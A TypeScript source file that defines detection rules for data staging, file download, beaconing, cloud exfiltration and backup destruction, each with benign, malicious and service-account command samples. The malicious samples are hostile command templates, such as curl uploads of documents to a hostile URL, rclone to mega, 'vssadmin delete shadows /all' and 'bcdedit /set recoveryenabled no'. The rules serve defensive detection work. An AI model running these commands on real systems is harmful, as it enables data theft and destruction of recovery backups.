import type { DetectionRule } from "../rule.ts";

/** Collection, command and control, exfiltration and impact. */
export const THEFT_RULES: readonly DetectionRule[] = [
  {
    id: "R601",
    name: "archive-staging",
    tactic: "collection",
    technique: "T1560.001",
    severities: [3, 5, 2, 0],
    benign: [
      {
        parents: "explorer.exe cmd.exe outlook.exe",
        commands: [
          "7z.exe a slides.zip {ownFile}",
          "7z.exe x setup.zip",
          "tar.exe -xf logs.tar",
          "makecab.exe logs.cab {ownFile}",
          "7z.exe a logs.zip {papers}",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["robocopy.exe {papers} {target} /mir", "rar.exe a -hp backup.rar {papers}"],
        on: ["management"],
      },
    ],
    malicious: [
      {
        parents: "rundll32.exe cmd.exe wscript.exe",
        commands: [
          "7z.exe a -p {droppedFile} {papers}",
          "tar.exe -cf {droppedFile} {papers}",
          "makecab.exe {droppedFile} {papers}",
          "robocopy.exe {papers} {droppedFile}",
          "7z.exe a {droppedFile} mailbox.pst",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["robocopy.exe {papers} {target} /mir", "rar.exe a -hp backup.rar {papers}"],
        on: ["workstation"],
      },
    ],
    service: [
      {
        account: "svc_backup",
        parents: "backupagent.exe",
        commands: [
          "7z.exe a -p backup.zip {papers} /pool tape",
          "robocopy.exe {papers} {target} /mir /pool tape",
        ],
        on: ["server"],
      },
    ],
  },
  {
    id: "R602",
    name: "file-download",
    tactic: "command-and-control",
    technique: "T1105",
    severities: [2, 5, 3, 0],
    benign: [
      {
        parents: "explorer.exe cmd.exe ccmexec.exe",
        commands: [
          "certutil.exe -urlcache -f {ownUrl}",
          "bitsadmin.exe /transfer job {ownUrl}",
          "curl.exe -O {ownUrl}",
          "certutil.exe -hashfile {ownExe}",
          "certutil.exe -verify {ownExe}",
          "winget.exe install {ownUrl}",
        ],
      },
    ],
    malicious: [
      {
        parents: "explorer.exe cmd.exe wscript.exe",
        commands: [
          "certutil.exe -urlcache -f {hostileUrl}",
          "bitsadmin.exe /transfer job {hostileUrl}",
          "curl.exe -O {hostileUrl}",
          "certutil.exe -decode {droppedFile} {droppedExe}",
          "curl.exe -o {droppedExe} {hostileUrl}",
          "winget.exe install {hostileUrl}",
        ],
      },
    ],
    service: [
      {
        account: "svc_patch",
        parents: "patchagent.exe",
        commands: [
          "bitsadmin.exe /transfer job {ownUrl} /window sunday",
          "certutil.exe -urlcache -f {ownUrl} /window sunday",
        ],
        on: ["server"],
      },
    ],
  },
  {
    id: "R603",
    name: "beaconing",
    tactic: "command-and-control",
    technique: "T1071.001",
    severities: [2, 4, 3, 1],
    benign: [
      {
        parents: "explorer.exe services.exe svchost.exe",
        commands: [
          "teams.exe poll {ownSite} every 60s",
          "onedrive.exe sync {ownSite} every 300s",
          "msedge.exe poll {ownSite} every 60s",
          "agent.exe report {ownSite} every 300s",
          "updater.exe check {ownSite} daily",
          "msedge.exe open {ownSite} once",
        ],
      },
    ],
    malicious: [
      {
        parents: "explorer.exe services.exe svchost.exe",
        commands: [
          "teams.exe poll {hostileSite} every 60s",
          "rundll32.exe poll {hostileSite} every 60s",
          "rundll32.exe poll {ownSite} every 300s",
          "powershell.exe poll {hostileSite} every 300s",
          "updater.exe check {hostileSite} daily",
          "nslookup.exe txt {hostileSite} every 60s",
        ],
      },
    ],
    service: [
      {
        account: "svc_monitor",
        parents: "monitoragent.exe",
        commands: [
          "powershell.exe poll {ownSite} every 60s /collector siem",
          "nslookup.exe txt {ownSite} every 60s /collector siem",
        ],
        on: ["server"],
      },
    ],
  },
  {
    id: "R604",
    name: "cloud-upload",
    tactic: "exfiltration",
    technique: "T1567.002",
    severities: [1, 4, 4, 1],
    benign: [
      {
        parents: "explorer.exe cmd.exe outlook.exe",
        commands: [
          "onedrive.exe upload {ownFile}",
          "curl.exe -T {ownFile} {ownUrl}",
          "winscp.exe put {ownFile} {ownSite}",
          "msedge.exe upload {ownFile} {ownSite}",
          "onedrive.exe upload slides.zip",
          "ftp.exe put logs.zip {ownSite}",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["rclone.exe copy {papers} onedrive", "winscp.exe put {papers} {ownSite}"],
        on: ["management"],
      },
    ],
    malicious: [
      {
        parents: "explorer.exe cmd.exe rundll32.exe",
        commands: [
          "rclone.exe copy {papers} mega",
          "curl.exe -T {papers} {hostileUrl}",
          "winscp.exe put {papers} {hostileSite}",
          "msedge.exe upload {papers} {hostileSite}",
          "curl.exe -T {droppedFile} {hostileUrl}",
          "ftp.exe put mailbox.pst {hostileSite}",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["rclone.exe copy {papers} onedrive", "winscp.exe put {papers} {ownSite}"],
        on: ["workstation"],
      },
    ],
    service: [
      {
        account: "svc_backup",
        parents: "backupagent.exe",
        commands: ["rclone.exe copy {papers} vault /pool tape", "curl.exe -T {papers} {ownUrl} /pool tape"],
        on: ["server"],
      },
    ],
  },
  {
    id: "R605",
    name: "recovery-inhibited",
    tactic: "impact",
    technique: "T1490",
    severities: [0, 2, 4, 4],
    benign: [
      {
        parents: "mmc.exe cmd.exe powershell.exe",
        commands: [
          "vssadmin.exe list shadows",
          "vssadmin.exe create shadow",
          "vssadmin.exe resize shadowstorage 20gb",
          "bcdedit.exe /enum",
          "wbadmin.exe get versions",
        ],
      },
      {
        parents: "mmc.exe powershell.exe",
        commands: ["vssadmin.exe delete shadows /oldest", "wbadmin.exe delete backup /keep"],
        on: ["management"],
      },
    ],
    malicious: [
      {
        parents: "wscript.exe cmd.exe powershell.exe",
        commands: [
          "vssadmin.exe delete shadows /all",
          "vssadmin.exe resize shadowstorage 401mb",
          "bcdedit.exe /set recoveryenabled no",
          "wbadmin.exe delete catalog /quiet",
          "wmic.exe shadowcopy delete",
          "cipher.exe /w C:",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["vssadmin.exe delete shadows /oldest", "wbadmin.exe delete backup /keep"],
        on: ["workstation"],
      },
    ],
    service: [
      {
        account: "svc_backup",
        parents: "backupagent.exe",
        commands: [
          "vssadmin.exe delete shadows /all /pool tape",
          "wbadmin.exe delete backup /keep /pool tape",
        ],
        on: ["server"],
      },
      {
        account: "svc_sql",
        parents: "sqlagent.exe",
        commands: [
          "vssadmin.exe delete shadows /oldest /instance erp",
          "vssadmin.exe create shadow /instance erp",
        ],
        on: ["server"],
      },
    ],
  },
];
